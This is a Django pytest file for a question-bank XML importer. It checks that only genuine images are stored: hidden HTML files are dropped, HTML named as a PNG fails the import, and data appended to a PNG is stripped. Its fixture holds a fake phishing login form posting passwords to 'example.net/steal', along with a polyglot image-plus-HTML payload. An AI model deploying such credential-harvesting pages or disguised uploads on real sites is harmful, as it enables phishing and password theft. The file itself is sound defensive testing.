"""A question bank carries only images: a file no text shows is left out (and the report says
so), a linked file that is not an image refuses the import, and what is kept is re-encoded.
Files are served from the site's own address: a web page among them would speak in its name."""

import base64
import io

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image as PILImage
from wagtail.images.models import Image

from assessments.interchange import InterchangeError, read_bank
from assessments.interchange.store import save_bank
from assessments.models import Question, QuestionFile
from tests.factories import PASSWORD

LOGIN_PAGE = (
    b"<!DOCTYPE html><html><body><form action='https://example.net/steal' method='post'>"
    b"<input name='password' type='password'></form></body></html>"
)


def png():
    buffer = io.BytesIO()
    PILImage.new("RGB", (30, 20), (20, 90, 160)).save(buffer, "PNG")
    return buffer.getvalue()


def bank(feedback, name, content):
    encoded = base64.b64encode(content).decode()
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <question type="truefalse">
    <name><text>Ký số</text></name>
    <questiontext format="html"><text><![CDATA[<p>Ký số có giá trị pháp lý?</p>]]></text>
    </questiontext>
    <generalfeedback format="html"><text><![CDATA[{feedback}]]></text>
      <file name="{name}" path="/" encoding="base64">{encoded}</file>
    </generalfeedback>
    <answer fraction="100"><text>true</text></answer>
    <answer fraction="0"><text>false</text></answer>
  </question>
</quiz>
""".encode()


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_files(root):
    return [path for path in root.rglob("*") if path.is_file()]


def test_a_web_page_no_text_shows_is_not_stored_and_the_report_names_it(client, trainer, media):
    assert client.login(username=trainer.username, password=PASSWORD)
    response = client.post(
        reverse("question_import"),
        {
            "file": SimpleUploadedFile(
                "ngan-hang.xml", bank("<p>Đúng.</p>", "dang-nhap.html", LOGIN_PAGE)
            ),
            "format": "xml",
            "category": "Ngân hàng",
        },
    )

    assert response.status_code == 302
    assert Question.objects.count() == 1
    assert not QuestionFile.objects.exists()
    assert stored_files(media) == []
    assert (
        "câu hỏi 1 (“Ký số”): tệp “dang-nhap.html” không được nhập: câu hỏi không hiển thị tệp này"
        in [str(message) for message in get_messages(response.wsgi_request)]
    )


def test_a_linked_web_page_refuses_the_whole_import(db, media):
    linked = '<p>Xem <a href="@@PLUGINFILE@@/so-do.png">sơ đồ</a>.</p>'
    with pytest.raises(InterchangeError) as raised:
        # Named as a picture: the content decides.
        read_bank(bank(linked, "so-do.png", LOGIN_PAGE), "xml")

    [problem] = raised.value.problems
    assert problem.startswith("câu hỏi 1 (“Ký số”): tệp “so-do.png” không nhập được")
    assert not Question.objects.exists()
    assert stored_files(media) == []


def test_a_linked_picture_is_kept_re_encoded_without_what_was_glued_to_it(db, media):
    linked = '<p>Xem <a href="@@PLUGINFILE@@/so-do.png">sơ đồ</a>.</p>'
    picture = png()

    [question] = save_bank(read_bank(bank(linked, "so-do.png", picture + LOGIN_PAGE), "xml"), "A")

    stored = QuestionFile.objects.get(question=question)
    with stored.file.open("rb") as handle:
        content = handle.read()
    assert content == picture
    assert b"<form" not in content
    assert not Image.objects.exists()
